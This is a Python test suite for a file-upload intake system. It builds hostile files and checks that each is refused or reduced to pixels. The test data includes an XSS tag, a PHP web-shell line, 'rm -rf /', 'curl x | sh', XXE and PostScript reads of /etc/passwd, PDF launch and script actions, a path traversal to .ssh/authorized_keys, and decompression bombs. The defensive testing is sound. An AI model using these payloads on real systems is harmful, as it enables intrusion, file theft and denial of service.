"""Hostile uploads: every one is refused with a sentence, or sealed and shown as nothing but pixels (security.md §4.12).

The files are made here, in code. `refused` names the reason; `shown` means that a derivative exists and holds pixels
only; `sealed` means that it was taken, sealed, and that no derivative of it can be had.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

import pytest
from PIL import Image

from answerable.monitoring.evidence import checks
from answerable.monitoring.evidence.tests import proofs
from answerable.vault.uploads import derivative, intake, pictures
from answerable.vault.uploads.sentences import CannotShow, UploadRefused

XSS = b"<script>alert(document.domain)</script>"
CANARY = b"CANARY-48.8584N-2.2945E"


def jpeg(size=(64, 48), **options) -> bytes:
    target = io.BytesIO()
    Image.radial_gradient("L").resize(size).convert("RGB").save(target, "JPEG", **options)
    return target.getvalue()


def png(size=(64, 48), mode="RGB", **options) -> bytes:
    target = io.BytesIO()
    Image.radial_gradient("L").resize(size).convert(mode).save(target, "PNG", **options)
    return target.getvalue()


def archive(name="run.sh", content=b"rm -rf /") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as z:
        z.writestr(name, content)
    return target.getvalue()


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png_of(width: int, height: int, data: bytes = b"", extra: bytes = b"") -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return pictures.PNG + header + extra + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def exif(*, orientation=1) -> bytes:
    found = Image.Exif()
    found[0x0112] = orientation
    found[0x010E] = (XSS + CANARY).decode()  # description
    found[0x9286] = XSS  # comment
    found.get_ifd(0x8825).update({1: "N", 2: (48.0, 51.0, 30.0), 3: "E", 4: (2.0, 17.0, 40.0), 29: CANARY.decode()})
    return found.tobytes()


def pdf(*objects: bytes, page=b"/MediaBox [0 0 200 200]", catalogue=b"", trailer=b"", kids=b"3 0 R", count=1) -> bytes:
    """A PDF of one page unless said otherwise; `objects` become 4, 5, …"""
    whole = [b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
             b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
             b"<< /Type /Page /Parent 2 0 R " + page + b" >>", *objects]  # fmt: skip
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(whole, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(whole) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer << /Size %d /Root 1 0 R " % (len(whole) + 1) + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d " % len(content) + more + b" >>\nstream\n" + content + b"\nendstream"


def box(name: bytes, *content: bytes) -> bytes:
    whole = b"".join(content)
    return struct.pack(">I", len(whole) + 8) + name + whole


FTYP = box(b"ftyp", b"isom", bytes(4), b"isommp42")
OUTSIDE = box(b"moov", box(b"trak", box(b"mdia", box(b"minf", box(b"dinf", box(
    b"dref", bytes(4), struct.pack(">I", 1), box(b"url ", bytes(4), b"http://192.0.2.1/taken?canary\0")))))))  # fmt: skip
LOCKED = b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >> /ID [<00><00>]" % (b"41" * 32, b"42" * 32)


def icc_bomb() -> bytes:
    return png_of(8, 8, bytes(8 * 25), chunk(b"iCCP", b"profile\0\0" + zlib.compress(bytes(200 << 20), 9)))


def text_bomb() -> bytes:
    return png_of(8, 8, bytes(8 * 25), chunk(b"zTXt", b"note\0\0" + zlib.compress(bytes(200 << 20), 9)))


def segment_bomb() -> bytes:
    whole = jpeg()
    return whole[:2] + b"".join(b"\xff\xe2\xff\xffICC_PROFILE\0\x01\xff" + bytes(65519) for _ in range(300)) + whole[2:]


def frame_of(width: int, height: int) -> bytes:
    """A JPEG whose frame header claims another size than its scan holds."""
    whole = bytearray(jpeg())
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


@dataclass(frozen=True)
class Hostile:
    what: str
    content: object  # bytes, or a function that makes them
    name: str
    outcome: str
    type: str = ""


HOSTILE = [
    # Two files in one
    Hostile("jpeg with an archive behind it", lambda: jpeg() + archive(), "photo.jpg", "refused two-in-one"),
    Hostile("png with an archive behind it", lambda: png() + archive(), "photo.png", "refused two-in-one"),
    Hostile("jpeg with an archive in its comment", lambda: jpeg(comment=archive()) , "photo.jpg", "refused two-in-one"),
    Hostile("jpeg with a PDF behind it", lambda: jpeg() + pdf(), "photo.jpg", "refused two-in-one"),
    Hostile("jpeg with a PDF header early in it", lambda: jpeg(comment=b"%PDF-1.4"), "a.jpg", "refused two-in-one"),
    Hostile("jpeg with a web page behind it", lambda: jpeg() + b"\n<html>" + XSS, "photo.jpg", "refused two-in-one"),
    Hostile("png with a web page behind it", lambda: png() + XSS, "photo.png", "refused two-in-one"),
    Hostile("png with a RAR behind it", lambda: png() + b"Rar!\x1a\x07\x00" + bytes(64), "a.png", "refused two-in-one"),
    Hostile("png with a program behind it", lambda: png() + b"MZ\x90" + bytes(64), "a.png", "refused two-in-one"),
    Hostile("png with a PHP tag behind it", lambda: png() + b"<?php system($_GET[0]);", "a.png", "refused two-in-one"),
    Hostile("pdf with an archive behind it", lambda: pdf() + archive(), "letter.pdf", "refused two-in-one"),
    Hostile("pdf with a jar behind it and a comment", lambda: pdf() + archive("META-INF/MANIFEST.MF") , "letter.pdf",
            "refused two-in-one"),
    Hostile("pdf that begins as a web page", lambda: pdf()[:9] + b"%<html>" + XSS + b"\n" + pdf()[9:], "letter.pdf",
            "refused two-in-one"),
    Hostile("pdf behind a web page", lambda: b"<html>" + XSS + b"\n" + pdf(), "letter.pdf", "refused unknown"),
    Hostile("pdf behind forty spaces", lambda: b" " * 40 + pdf(), "letter.pdf", "refused unknown"),
    Hostile("recording with an archive behind it", lambda: b"ID3\x04" + bytes(4000) + archive(), "a.mp3",
            "refused two-in-one"),
    Hostile("video with an archive behind it", lambda: FTYP + bytes(400) + archive(), "a.mp4", "refused two-in-one"),
    Hostile("text with an archive behind it", lambda: b"hello\n" * 400 + archive(content=b"text"), "a.txt",
            "refused two-in-one"),
    # Other kinds under a borrowed name
    Hostile("svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "drawing.svg", "refused svg"),
    Hostile("svg as png", b'<?xml version="1.0"?><svg onload="alert(1)"/>', "drawing.png", "refused svg", "image/png"),
    Hostile("svg as text", b"\xef\xbb\xbf  <svg onload=alert(1)>", "drawing.txt", "refused svg", "text/plain"),
    Hostile("web page as jpeg", b"<!DOCTYPE html><body onload=alert(1)>", "photo.jpg", "refused html", "image/jpeg"),
    Hostile("web page as text", b"Dear all,\n< script src=//x>", "letter.txt", "refused html", "text/plain"),
    Hostile("web page without a name", b"<html>" + XSS, "", "refused html", "image/png"),
    Hostile("xml with an entity", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "a.txt",
            "refused html"),
    Hostile("archive", archive, "papers.zip", "refused archive"),
    Hostile("archive as pdf", archive, "papers.pdf", "refused archive", "application/pdf"),
    Hostile("word document", lambda: archive("word/document.xml"), "letter.docx", "refused office"),
    Hostile("old word document as text", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "letter.txt", "refused office"),
    Hostile("rtf as text", b"{\\rtf1 {\\object\\objocx}}", "letter.txt", "refused office"),
    Hostile("heic", lambda: box(b"ftyp", b"heic", bytes(4), b"mif1heic") + bytes(99), "IMG_1.HEIC", "refused heic"),
    Hostile("heic as jpeg", lambda: box(b"ftyp", b"heic", bytes(4)) + bytes(99), "IMG_1.jpg", "refused heic"),
    Hostile("gif as png", b"GIF89a" + bytes(99), "a.png", "refused picture"),
    Hostile("tiff as jpeg", b"II*\x00" + bytes(99), "a.jpg", "refused picture"),
    Hostile("program as jpeg", b"MZ\x90\x00" + bytes(99), "photo.jpg", "refused program"),
    Hostile("program with a double ending", jpeg, "photo.jpg.exe", "refused program"),
    Hostile("script as text", b"#!/bin/sh\ncurl x | sh\n", "a.txt", "refused program"),
    Hostile("postscript as text", b"%!PS\n(/etc/passwd) (r) file\n", "a.txt", "refused program"),
    Hostile("png as jpeg", png, "photo.jpg", "refused mismatch", "image/jpeg"),
    Hostile("text as jpeg", b"hello", "photo.jpg", "refused mismatch"),
    Hostile("nothing", b"", "photo.jpg", "refused empty"),
    Hostile("text that turns into bytes", b"a" * 5000 + bytes(range(256)), "a.txt", "refused not-utf8"),
    Hostile("text in UTF-16", "bonjour".encode("utf-16"), "a.txt", "refused unknown"),
    Hostile("noise", bytes(range(128, 256)) * 9, "a.pdf", "refused unknown"),
    # Pictures that carry more than pixels
    Hostile("jpeg with a place and a script in its EXIF", lambda: jpeg(exif=exif()), "photo.jpg", "shown"),
    Hostile("png with a place and a script in its EXIF", lambda: png(exif=exif()), "photo.png", "shown"),
    Hostile("jpeg with a comment", lambda: jpeg(comment=XSS + CANARY), "photo.jpg", "shown"),
    Hostile("jpeg with XMP", lambda: jpeg(xmp=b"<x:xmpmeta>" + CANARY + b"</x:xmpmeta>"), "photo.jpg", "shown"),
    Hostile("png with text", lambda: png_of(8, 8, bytes(8 * 25), chunk(b"tEXt", b"Author\0" + XSS + CANARY)), "a.png",
            "shown"),
    Hostile("jpeg with a colour profile that names someone", lambda: jpeg(icc_profile=CANARY * 40), "a.jpg", "shown"),
    Hostile("jpeg with a broken EXIF", lambda: jpeg(exif=b"Exif\0\0MM\0*\xff\xff\xff\xff" + CANARY), "a.jpg", "shown"),
    Hostile("jpeg with another jpeg behind it", lambda: jpeg() + jpeg(comment=CANARY), "photo.jpg", "shown"),
    Hostile("transparent png with hidden colours", lambda: png(mode="RGBA"), "a.png", "shown"),
    # Bombs
    Hostile("png flood", lambda: png_of(60000, 60000), "a.png", "sealed pixels"),
    Hostile("png with the largest size there is", lambda: png_of(2**31 - 1, 2**31 - 1), "a.png", "sealed pixels"),
    Hostile("png without a pixel", lambda: png_of(0, 5), "a.png", "sealed"),
    Hostile("decompression bomb", lambda: png_of(100, 100, bytes(300 << 20)), "a.png", "neutralised"),
    Hostile("colour profile bomb", icc_bomb, "a.png", "neutralised"),
    Hostile("compressed text bomb", text_bomb, "a.png", "neutralised"),
    Hostile("jpeg with 300 profile segments", segment_bomb, "a.jpg", "shown"),
    Hostile("jpeg that claims 65,500 pixels a side", lambda: frame_of(65500, 65500), "a.jpg", "sealed pixels"),
    Hostile("jpeg that claims more rows than it has", lambda: frame_of(64, 8000), "a.jpg", "neutralised"),
    # Cut off or inconsistent
    Hostile("jpeg cut in its data", lambda: jpeg((600, 400))[:-900], "a.jpg", "sealed unreadable"),
    Hostile("jpeg of three bytes", b"\xff\xd8\xff", "a.jpg", "sealed unreadable"),
    Hostile("png cut in its data", lambda: png((600, 400))[:900], "a.png", "sealed unreadable"),
    Hostile("png with a chunk of 4 GB", lambda: pictures.PNG + b"\xff\xff\xff\xffIHDR" + bytes(40), "a.png", "sealed"),
    Hostile("pdf cut short", lambda: pdf()[:60], "a.pdf", "sealed"),
    Hostile("pdf of nothing but a header", b"%PDF-1.7\n", "a.pdf", "sealed unreadable"),
    # PDF that would do something
    Hostile("pdf with a script", lambda: pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://x'\\)) >>",
            catalogue=b"/OpenAction 4 0 R"), "a.pdf", "shown"),
    Hostile("pdf that launches a program", lambda: pdf(b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>",
            catalogue=b"/OpenAction 4 0 R"), "a.pdf", "shown"),
    Hostile("pdf with a file inside", lambda: pdf(b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
            stream(b"MZ" + CANARY, b"/Type /EmbeddedFile"),
            catalogue=b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"), "a.pdf", "shown"),
    Hostile("pdf with an outside address", lambda: pdf(b"<< /S /URI /URI (http://192.0.2.1/taken) >>",
            catalogue=b"/OpenAction 4 0 R"), "a.pdf", "shown"),
    Hostile("pdf with an XFA form", lambda: pdf(stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"),
            catalogue=b"/AcroForm << /XFA 4 0 R /Fields [] >>"), "a.pdf", "shown"),
    Hostile("pdf of 100,000 pages", lambda: pdf(kids=b"3 0 R " * 100_000, count=100_000), "a.pdf", "neutralised"),
    Hostile("pdf whose pages are their own parents", lambda: pdf(kids=b"2 0 R", count=5), "a.pdf", "sealed"),
    Hostile("pdf that is locked", lambda: pdf(trailer=LOCKED), "a.pdf", "sealed password"),
    Hostile("pdf with a page of 14 million points", lambda: pdf(page=b"/MediaBox [0 0 14400000 14400000]"), "a.pdf",
            "neutralised"),
    Hostile("pdf with a page a hair wide", lambda: pdf(page=b"/MediaBox [0 0 0.0001 14400]"), "a.pdf", "neutralised"),
    Hostile("pdf with a compressed bomb", lambda: pdf(stream(zlib.compress(b"0 0 m 9 9 l S\n" * 9_000_000, 9),
            b"/Filter /FlateDecode"), page=b"/MediaBox [0 0 200 200] /Contents 4 0 R"), "a.pdf", "neutralised"),
    Hostile("pdf with a picture of 60,000 pixels a side", lambda: pdf(
            stream(zlib.compress(bytes(9999)), b"/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8"
            b" /ColorSpace /DeviceRGB /Filter /FlateDecode"), stream(b"200 0 0 200 0 0 cm /I Do"),
            page=b"/MediaBox [0 0 200 200] /Contents 5 0 R /Resources << /XObject << /I 4 0 R >> >>"), "a.pdf",
            "neutralised"),
    # Sound and video
    Hostile("video with data elsewhere", FTYP + OUTSIDE, "a.mp4", "sealed sound"),
    Hostile("recording that claims 4 GB", b"RIFF\xff\xff\xff\xffWAVEdata\xff\xff\xff\xff" + bytes(99), "a.wav", "sealed sound"),
    Hostile("recording with a script in its tags", b"ID3\x04\0\0\0\0\x0f\x76" + XSS * 40, "a.mp3", "sealed sound"),
    # Text
    Hostile("text with markup later on", b"a" * 2000 + XSS, "a.txt", "shown"),
    Hostile("text that is turned round", "invoice \u202etxt.exe\u202c \u2066a\u2069".encode(), "a.txt", "shown"),
    Hostile("text with terminal commands", b"\x1b]0;owned\x07\x1b[2Jhello\x08\x08", "a.txt", "shown"),
]  # fmt: skip


def made(hostile: Hostile) -> bytes:
    return hostile.content() if callable(hostile.content) else hostile.content


def is_a_sentence(text: str) -> bool:
    return len(text) > 30 and text[0].isupper() and text.endswith(".") and "%" not in text


def test_there_are_enough_of_them():
    assert len(HOSTILE) >= 45 and len({h.what for h in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda h: h.what)
def test_a_hostile_file_is_refused_or_neutralised(hostile, tmp_path):
    content = made(hostile)
    outcome, _, reason = hostile.outcome.partition(" ")
    if outcome == "refused":
        with pytest.raises(UploadRefused) as refusal:
            intake.receive(io.BytesIO(content), tmp_path, declared_name=hostile.name, declared_type=hostile.type)
        assert refusal.value.reason == reason and is_a_sentence(str(refusal.value))
        assert list(tmp_path.iterdir()) == []
        return

    received = intake.receive(io.BytesIO(content), tmp_path, declared_name=hostile.name, declared_type=hostile.type)
    on_disk = received.path.read_bytes()
    assert list(tmp_path.iterdir()) == [received.path] and content[:16] not in on_disk and CANARY not in on_disk
    original = intake.read_back(received.path, received.key)
    assert original == content, "the evidence is unchanged"
    try:
        shown = derivative.convert(received.kind, original)
    except CannotShow as why:
        assert outcome in ("sealed", "neutralised") and reason in ("", why.reason) and is_a_sentence(str(why))
        assert why.reason not in ("room", "busy"), "the file was never tried"
    else:
        assert outcome in ("shown", "neutralised")
        assert shown.sandbox != ""
        for page in shown.pages:
            assert pictures.holds_only_pixels(page)
            assert CANARY not in page and XSS not in page and b"Exif" not in page and b"ICC" not in page
            picture = Image.open(io.BytesIO(page))
            picture.load()
            assert not picture.getexif() and not set(picture.info) - {
                "jfif",
                "jfif_version",
                "jfif_unit",
                "jfif_density",
            }
            assert max(picture.size) <= 4096
        assert len(shown.pages) <= 60
        assert not set("<>\x1b\x07\x08\u202e\u2066") & set(shown.text)
    assert list(tmp_path.iterdir()) == [received.path], "the converter leaves no file"


def test_a_photograph_stays_the_photograph_it_was():
    """What makes the rest worth something: an honest picture is shown, upright, close to its pixels."""
    plain = Image.new("RGB", (80, 40), "white")
    plain.paste((200, 0, 0), (0, 0, 40, 40))
    target = io.BytesIO()
    plain.save(target, "JPEG", quality=95, exif=exif(orientation=6))
    shown = derivative.convert("jpeg", target.getvalue())
    picture = Image.open(io.BytesIO(shown.pages[0]))
    assert shown.mime == "image/jpeg" and picture.size == (40, 80)
    red, white = picture.getpixel((20, 10)), picture.getpixel((20, 70))
    assert red[0] > 180 and red[1] < 40 and min(white) > 240


# --- evidence: web archives and proofs ----------------------------------------------------------------------------


def nested_bomb() -> bytes:
    """An archive in an archive in an archive; none of them is looked into but the first."""
    inner = archive("zeros", bytes(200 << 20))
    return proofs.wacz({"archive/data.warc": b"x", "inner.zip": archive("inner.zip", inner)})


def packed_records() -> bytes:
    """Web records that unpack to far more than the archive's own list says: packed once more inside."""
    import gzip

    return proofs.wacz({"archive/data.warc.gz": gzip.compress(b"WARC/1.0\r\n" + bytes(900 << 20), 9)})


TRAPS = [
    ("a path that leads outside", lambda: proofs.wacz(extra={"../../../root/.ssh/authorized_keys": b"x"}), {"wacz.paths"}),
    ("a path with a drive", lambda: proofs.wacz(extra={"C:/x": b"x"}), {"wacz.paths"}),
    ("a bomb", lambda: proofs.wacz(extra={"zeros": bytes(200 << 20)}), {"wacz.bomb"}),
    ("a bomb within", nested_bomb, {"wacz.resources", "wacz.bomb"}),
    ("records that are a bomb", packed_records, {"wacz.bomb", "wacz.records", "wacz.resources", "time", "unreadable"}),
    ("no archive behind its first bytes", lambda: b"PK\x03\x04" + bytes(5000), {"wacz.unreadable"}),
    ("a list too deep", lambda: proofs.wacz(package=b"[" * 200_000), {"wacz.package", "wacz.bomb"}),
    ("a list of itself", lambda: proofs.wacz(package=b'{"resources": [{"path": "datapackage.json"}, {"path": "datapackage.json"}]}'),
     {"wacz.package"}),
]  # fmt: skip


@pytest.mark.parametrize(("what", "make", "codes"), TRAPS, ids=[t[0] for t in TRAPS])
def test_a_hostile_web_archive_is_sealed_and_ends_as_a_sentence(what, make, codes, tmp_path):
    content = make()
    received = intake.receive(io.BytesIO(content), tmp_path, declared_name="site.wacz", web_archives=True)
    assert received.kind == "wacz" and content[:64] not in received.path.read_bytes()
    found = checks.run("wacz", intake.read_back(received.path, received.key), b"", [])
    assert {f["code"] for f in found} & codes, found
    assert all(is_a_sentence(checks.in_words(f).replace("%", "")) for f in found)
    assert list(tmp_path.iterdir()) == [received.path], "nothing is unpacked to a disk"


@pytest.mark.parametrize("name", ["site.zip", "site.wacz.exe", "site", "site.docx"])
def test_an_archive_under_another_name_is_no_web_archive_and_at_the_door_none_is_taken(name, tmp_path):
    with pytest.raises(UploadRefused):
        intake.receive(io.BytesIO(proofs.wacz()), tmp_path, declared_name=name, web_archives=True)
    with pytest.raises(UploadRefused):
        intake.receive(io.BytesIO(proofs.wacz()), tmp_path, declared_name="site.wacz")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("kind", ["rfc3161", "ots"])
@pytest.mark.parametrize(
    "proof", [b"\x30\x84\xff\xff\xff\xff", b"\x30\x80" * 30_000, bytes(60_000), b"\x00OpenTimestamps" * 4000]
)
def test_a_hostile_proof_ends_as_a_sentence(kind, proof):
    (found,) = checks.run(kind, proof, b"original", [])
    assert found["outcome"] == "not_held" and is_a_sentence(checks.in_words(found))
